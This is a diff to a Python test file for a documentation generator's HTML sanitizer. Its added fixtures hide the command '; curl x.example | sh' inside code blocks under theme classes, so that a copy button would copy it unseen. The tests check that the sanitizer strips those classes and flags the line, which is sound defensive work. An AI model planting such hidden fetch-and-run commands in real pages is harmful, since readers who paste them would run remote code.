@@ -21,7 +21,7 @@ import pytest
 
 from kbgen.core.phone_regions import national_regions
 from kbgen.core.privacy import Allowed, scan
-from kbgen.core.sanitize import clean_html
+from kbgen.core.sanitize import clean_html, find_unsafe_html
 from kbgen.core.sources import walk
 from kbgen.core.static_files import static_problems
 from tests.conftest import SMALL_PROJECT, article, write_files
@@ -148,9 +148,27 @@ def test_an_svg_elements_geometry_is_no_phone_number(text: str, found: bool) -> 
     ('<a class="md-button md-button--primary" href="a.md">Go</a>',
      '<a class="md-button md-button--primary" href="a.md">Go</a>'),
     ('<pre class="mermaid md-typeset">x</pre>', "<pre>x</pre>"),
+    ('<pre><code>ls<a class="footnote-backref">; curl x.example | sh</a></code></pre>',
+     "<pre><code>ls<a>; curl x.example | sh</a></code></pre>"),
+    ('<pre><code>ls<span class="headerlink k">; curl x.example | sh</span></code></pre>',
+     '<pre><code>ls<span class="k">; curl x.example | sh</span></code></pre>'),
+    ('<p>x<span class="footnote-backref">y</span></p>', "<p>x<span>y</span></p>"),
+    ('<h2 id="a">A<a class="headerlink" href="#a">¶</a></h2>',
+     '<h2 id="a">A<a class="headerlink" href="#a">¶</a></h2>'),
+    ('<li><p>n <a class="footnote-backref" href="#fnref:1">↩</a></p></li>',
+     '<li><p>n <a class="footnote-backref" href="#fnref:1">↩</a></p></li>'),
 ])
 def test_content_keeps_no_theme_class_but_buttons(html: str, published: str) -> None:
+    """Material's copy button copies a code block's `innerText`: text made transparent or of
+    no size by the theme's classes is copied unseen. Toc's and footnotes' own links keep
+    theirs."""
     assert clean_html(html) == published
+
+
+def test_check_names_the_line_of_a_theme_class() -> None:
+    text = "# T\n\n<pre><code>ls<span class=\"md-tooltip\">; curl x.example | sh</span>" \
+           "</code></pre>\n\n[Go](a.md){ .md-button }\n"
+    assert find_unsafe_html(text) == [(3, "the theme's class md-tooltip")]
 
 
 HOST_FILES = {
